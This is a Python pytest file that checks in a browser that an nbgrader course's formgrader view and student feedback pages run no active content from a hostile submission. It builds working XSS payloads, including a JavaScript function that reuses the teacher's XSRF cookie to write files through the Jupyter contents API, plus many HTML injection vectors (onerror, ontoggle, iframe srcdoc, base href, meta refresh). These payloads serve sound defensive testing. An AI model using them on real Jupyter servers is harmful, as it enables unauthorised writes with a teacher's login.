"""Nothing a student hands in runs in the pages the teacher and the student open.

A one-exercise course grades one hostile submission with the course's nbgrader_config.py: its
outputs and cells carry every kind of active content a notebook can hold (an `<img onerror>`, a
JavaScript output, raw HTML in a markdown cell, an image whose width metadata carries an event
handler, a `<base href>`, a meta refresh, an inline frame, remote images and styles). Each
payload, if it ran, would (a) call a listener the test runs on 127.0.0.1, (b) write a file into
the course through the Jupyter contents API with the teacher's login and (c) raise an alert.
The formgrader's manual-grading view (served by `jupyter server` with the teacher's token) and the
student's feedback page are opened in Chromium: the listener hears nothing, no file appears, no
alert fires, and the student's text, table and image still show. The same holds for a notebook
autograded before the course made outputs inert.

Needs Chromium and Playwright, as tests/course/test_browser.py does (the fixtures are in conftest.py).
"""

from __future__ import annotations

import base64
import http.server
import json
import shutil
import signal
import struct
import subprocess
import sys
import threading
import time
import urllib.error
import uuid
import zlib
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell
from nbgrader.api import Gradebook
from support import SCREENSHOTS, Lab, free_port, lab_environment, write_lab_config

from course_tools.jobs.nbgrader_course import generate_release, open_course
from course_tools.lessons import REPO_ROOT

# Marked `browser` by its folder (tests/conftest.py).

STUDENT = "mallory"
TEXT_OUTPUT = "STUDENT-TEXT-OUTPUT"
TABLE_CELL = "STUDENT-TABLE-CELL"
MARKDOWN_TEXT = "STUDENT-MARKDOWN-TEXT"
# Long enough for a meta refresh of one second and for image errors and fetches to land.
SETTLE_MS = 2500


def grading(grade_id, **flags):
    meta = {"grade": False, "solution": False, "locked": False, "grade_id": grade_id, "schema_version": 3}
    return {"nbgrader": {**meta, **flags}}


def lesson() -> nbformat.NotebookNode:
    notebook = new_notebook(cells=[
        new_markdown_cell("# Mini lesson\nWrite `add`."),
        new_code_cell("def add(a, b):\n    ### BEGIN SOLUTION\n    return a + b\n    ### END SOLUTION",
                      metadata=grading("add_solution", solution=True)),
        new_code_cell('assert add(1, 2) == 3, "add(1, 2) should be 3"',
                      metadata=grading("add_test", grade=True, locked=True, points=1)),
    ])
    notebook.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    return notebook


def png(size: int = 8) -> str:
    """A red square as a base64 PNG."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    rows = b"".join(b"\x00" + b"\xff\x00\x00" * size for _ in range(size))
    image = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", size, size, 8, 2, 0, 0, 0))
             + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))
    return base64.b64encode(image).decode("ascii")


def attack(kind: str, port: int) -> str:
    """JavaScript that calls the listener, writes pwned-<kind>.txt into the course with the page's
    login, and alerts. No spaces: it also has to work as an unquoted attribute value."""
    return (f"(function(kind,xsrf){{fetch('http://127.0.0.1:{port}/'+kind,{{mode:'no-cors'}}).catch(function(){{}});"
            "xsrf=(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]||'';"
            "fetch(location.origin+'/api/contents/pwned-'+kind+'.txt',{method:'PUT',credentials:'include',"
            "headers:{'Content-Type':'application/json','X-XSRFToken':decodeURIComponent(xsrf)},"
            "body:JSON.stringify({type:'file',format:'text',content:'pwned'})}).catch(function(){});"
            f"alert(kind);}})('{kind}')")


def hostile_displays(port: int) -> list[tuple[dict, dict]]:
    """(data, metadata) of each output the student's cell displays."""
    def js(kind):
        return attack(kind, port)

    listener = f"http://127.0.0.1:{port}"
    image = png()
    svg = (f'<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8" onload="{js("svg-onload")}">'
           f'<script>{js("svg-script")}</script><rect width="8" height="8"/></svg>')
    return [
        ({"image/png": image, "text/plain": "<a red square>"}, {}),
        ({"text/html": f"<table><tr><th>metric</th><td>{TABLE_CELL}</td></tr></table>",
          "text/plain": "a table"}, {}),
        ({"text/html": f'<img src="x" onerror="{js("html-onerror")}">'}, {}),
        ({"application/javascript": js("javascript-output")}, {}),
        ({"text/markdown": f'<img src="x" onerror="{js("markdown-output")}">'}, {}),
        ({"image/svg+xml": svg, "text/plain": "an svg"}, {}),
        ({"image/png": image}, {"image/png": {"width": f"8 onload={js('png-width')}"}}),
        ({"image/png": image}, {"filenames": {"image/png": f"{listener}/png-filenames"}}),
        ({"text/html": f'<img src="x" onerror="{js("isolated-html")}">'}, {"text/html": {"isolated": True}}),
        ({"text/html": f'<img src="{listener}/remote-img"><div style="background:url({listener}/css-url)">'
                       "styled</div>"}, {}),
        ({"application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2,
                                                       "version_minor": 0}, "text/plain": "a widget"}, {}),
    ]


def hostile_markdown(port: int) -> str:
    listener = f"http://127.0.0.1:{port}"
    return "\n".join([
        f"{MARKDOWN_TEXT}: my notes.",
        "",
        f'<img src="x" onerror="{attack("markdown-cell", port)}">',
        f'<details open ontoggle="{attack("details-ontoggle", port)}"><summary>more</summary>x</details>',
        f'<input autofocus onfocus="{attack("autofocus", port)}">',
        f'<iframe srcdoc="<img src=x onerror=&quot;{attack("iframe-srcdoc", port)}&quot;>"></iframe>',
        f'<object data="{listener}/object"></object><embed src="{listener}/embed">',
        f'<link rel="stylesheet" href="{listener}/link-css">',
        f'<style>@import url("{listener}/style-import");</style>',
        f'<svg><script>{attack("inline-svg", port)}</script></svg>',
        f'<img src="{listener}/markdown-remote-img">',
        f'<base href="{listener}/base/">',
        f'<meta http-equiv="refresh" content="1;url={listener}/meta-refresh">',
        "",
        f"![remote]({listener}/markdown-image-syntax)",
    ])


def hostile_raw_cell(port: int):
    return new_raw_cell(f'<img src="x" onerror="{attack("raw-cell", port)}">'
                        f'<img src="http://127.0.0.1:{port}/raw-cell-img">',
                        metadata={"raw_mimetype": "text/html", "format": "text/html"})


def submission(course: Path, port: int) -> nbformat.NotebookNode:
    """The release, answered, with the student's own hostile cells after the exercise."""
    notebook = nbformat.read(course / "release" / "mini" / "mini.ipynb", as_version=4)
    answer = next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("solution"))
    answer.source = "def add(a, b):\n    return a + b"
    code = (f"from IPython.display import display\nprint({TEXT_OUTPUT!r})\n"
            f"for data, metadata in {hostile_displays(port)!r}:\n"
            "    display(data, metadata=metadata, raw=True)")
    notebook.cells += [new_code_cell(code), new_markdown_cell(hostile_markdown(port)), hostile_raw_cell(port)]
    return notebook


# --------------------------------------------------------------------------------------------
# The listener, the graded course and its Jupyter server
# --------------------------------------------------------------------------------------------


class Listener(http.server.ThreadingHTTPServer):
    """Records the path of every request that reaches it, whatever the method."""

    def __init__(self):
        self.heard: list[str] = []
        listener = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def _record(self):
                listener.heard.append(f"{self.command} {self.path}")
                self.send_response(204)
                self.end_headers()

            do_GET = do_POST = do_PUT = do_HEAD = do_OPTIONS = _record

            def log_message(self, *args):
                pass

        super().__init__(("127.0.0.1", 0), Handler)


@pytest.fixture(scope="module")
def listener(browser_prerequisites):
    server = Listener()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def graded_course(listener, tmp_path_factory):
    """The course, the hostile submission autograded (one kernel run) and its feedback generated."""
    root = tmp_path_factory.mktemp("hostile_course")
    (root / "source" / "mini").mkdir(parents=True)
    nbformat.write(lesson(), root / "source" / "mini" / "mini.ipynb")
    shutil.copy(REPO_ROOT / "nbgrader_config.py", root / "nbgrader_config.py")
    api = open_course(root, cell_timeout=60)
    api.config.GuardedExecute.sandbox = "off"  # the kernel only displays strings: no sandbox needed
    generate_release(api, "mini")
    folder = root / "submitted" / STUDENT / "mini"
    folder.mkdir(parents=True)
    nbformat.write(submission(root, listener.server_port), folder / "mini.ipynb")
    result = api.autograde("mini", STUDENT, force=True, create=True)
    assert result["success"], result.get("log")
    result = api.generate_feedback("mini", STUDENT, force=True)
    assert result["success"], result.get("log")
    return root


@pytest.fixture(scope="module")
def formgrader(graded_course, tmp_path_factory):
    """`jupyter server` on 127.0.0.1 with a token, in the course folder (nbgrader's formgrader
    extension reads the course's nbgrader_config.py from there)."""
    home = tmp_path_factory.mktemp("formgrader_home")
    env = lab_environment(home)
    write_lab_config(home)
    port, token = free_port(), uuid.uuid4().hex
    log = home / "server.log"
    with log.open("wb") as log_file:
        process = subprocess.Popen(
            [sys.executable, "-m", "jupyter_server", "--no-browser", "--ip=127.0.0.1", f"--port={port}",
             f"--ServerApp.token={token}", f"--ServerApp.root_dir={graded_course}"],
            cwd=graded_course, env=env, stdout=log_file, stderr=subprocess.STDOUT, start_new_session=True)
    server = Lab(url=f"http://127.0.0.1:{port}", token=token, root=graded_course, log=log)
    try:
        deadline = time.monotonic() + 120
        while True:
            if process.poll() is not None:
                pytest.fail(f"jupyter server exited with {process.returncode}:\n{server.log_tail()}")
            try:
                server.api("GET", "/api/status")
                break
            except (urllib.error.URLError, ConnectionError, TimeoutError):
                if time.monotonic() > deadline:
                    pytest.fail(f"jupyter server did not answer in 120 s:\n{server.log_tail()}")
                time.sleep(0.3)
        yield server
    finally:
        process.send_signal(signal.SIGTERM)
        try:
            process.wait(timeout=30)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait(timeout=30)


@dataclass
class Tab:
    page: Any
    alerts: list[str] = field(default_factory=list)


@pytest.fixture
def new_tab(browser):
    """new_tab(): a fresh tab that records and dismisses every alert, confirm or prompt."""
    opened = []

    def new() -> Tab:
        tab = Tab(browser.new_page())
        tab.page.on("dialog", lambda dialog: (tab.alerts.append(dialog.message), dialog.dismiss()))
        opened.append(tab.page)
        return tab

    yield new
    for page in opened:
        page.close()


# --------------------------------------------------------------------------------------------
# What a page did
# --------------------------------------------------------------------------------------------


def visit(tab: Tab, url: str, listener: Listener, course: Path, screenshot: str) -> dict:
    """Open `url` and let it run; what reached the listener, the files written and the alerts."""
    listener.heard.clear()
    for earlier in course.glob("pwned-*"):  # what an earlier page wrote is that page's finding
        earlier.unlink()
    tab.page.goto(url, wait_until="load")
    tab.page.wait_for_timeout(SETTLE_MS)
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    tab.page.screenshot(path=str(SCREENSHOTS / f"{screenshot}.png"), full_page=True)
    written = sorted(path.name for path in course.glob("pwned-*"))
    return {"requests": sorted(listener.heard), "files written": written, "alerts": sorted(tab.alerts)}


def assert_nothing_ran(seen: dict) -> None:
    assert seen == {"requests": [], "files written": [], "alerts": []}, seen


def assert_the_student_work_shows(tab: Tab) -> None:
    page = tab.page
    body = page.locator("body").inner_text()
    assert page.url.startswith(("http://127.0.0.1", "file://")) and "/meta-refresh" not in page.url
    for text in (TEXT_OUTPUT, TABLE_CELL, MARKDOWN_TEXT):
        assert text in body, f"{text} is not on the page"
    assert page.locator("td", has_text=TABLE_CELL).count() == 1, "the table is not shown as a table"
    images = page.evaluate("() => [...document.images].filter(image => image.src.startsWith("
                          "'data:image/png;base64,') && image.complete && image.naturalWidth > 0).length")
    assert images >= 1, "the student's PNG output is not shown"


def logged_in(tab: Tab, server: Lab) -> Tab:
    """The tab with the teacher's Jupyter login cookie, as a teacher who opened JupyterLab has it
    (a token in the formgrader's own URL would set a cookie for that one page's path only)."""
    tab.page.goto(f"{server.url}/api/status?token={server.token}")
    return tab


def submission_view(course: Path, server: Lab) -> str:
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
        notebook_id = gradebook.find_submission_notebook("mini", "mini", STUDENT).id
    return f"{server.url}/formgrader/submissions/{notebook_id}/"


def feedback_page(course: Path) -> str:
    return (course / "feedback" / STUDENT / "mini" / "mini.html").as_uri()


# --------------------------------------------------------------------------------------------
# The tests
# --------------------------------------------------------------------------------------------


def test_the_autograded_notebook_holds_nothing_active(graded_course, listener):
    """What the formgrader renders and the teacher may open in JupyterLab: the student's code still
    spells its payloads, but no output, markdown or raw cell carries one."""
    notebook = nbformat.read(graded_course / "autograded" / STUDENT / "mini" / "mini.ipynb", as_version=4)
    shown = [json.dumps(cell.outputs) if cell.cell_type == "code" else cell.source for cell in notebook.cells]
    for active in ("onerror", "onload", "<script", "application/javascript", "<base", "<meta",
                   f"127.0.0.1:{listener.server_port}"):
        assert not any(active in text for text in shown), active
    assert "widgets" not in notebook.metadata


def test_the_formgrader_runs_nothing_a_student_handed_in(new_tab, formgrader, graded_course, listener):
    tab = logged_in(new_tab(), formgrader)
    url = submission_view(graded_course, formgrader)
    seen = visit(tab, url, listener, graded_course, "formgrader-hostile")
    assert_nothing_ran(seen)
    assert_the_student_work_shows(tab)


def test_the_feedback_page_runs_nothing(new_tab, graded_course, listener):
    tab = new_tab()
    seen = visit(tab, feedback_page(graded_course), listener, graded_course, "feedback-hostile")
    assert_nothing_ran(seen)
    assert_the_student_work_shows(tab)


def legacy_notebook(course: Path, port: int) -> nbformat.NotebookNode:
    """The autograded notebook as grading wrote it before the course made outputs inert: the
    hostile outputs and cells as they came, and saved widget state."""
    notebook = nbformat.read(course / "autograded" / STUDENT / "mini" / "mini.ipynb", as_version=4)
    for index, cell in enumerate(notebook.cells):
        if cell.cell_type == "code" and TEXT_OUTPUT in cell.source:
            cell.outputs = [new_output("stream", name="stdout", text=TEXT_OUTPUT + "\n")] + [
                new_output("display_data", data=data, metadata=metadata)
                for data, metadata in hostile_displays(port)]
        elif cell.cell_type == "markdown" and MARKDOWN_TEXT in cell.source:
            cell.source = hostile_markdown(port)
        elif cell.cell_type == "raw":
            notebook.cells[index] = hostile_raw_cell(port)
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "state": {}, "version_major": 2, "version_minor": 0}}
    return notebook


def test_a_notebook_autograded_before_the_fix_runs_nothing(new_tab, formgrader, graded_course, listener):
    """The formgrader's exporter and generate_feedback make the notebook inert as they render it."""
    nbformat.write(legacy_notebook(graded_course, listener.server_port),
                   graded_course / "autograded" / STUDENT / "mini" / "mini.ipynb")
    result = open_course(graded_course).generate_feedback("mini", STUDENT, force=True)
    assert result["success"], result.get("log")
    for url, name in ((submission_view(graded_course, formgrader), "formgrader-legacy"),
                      (feedback_page(graded_course), "feedback-legacy")):
        tab = logged_in(new_tab(), formgrader)
        seen = visit(tab, url, listener, graded_course, name)
        assert_nothing_ran(seen)
        assert_the_student_work_shows(tab)
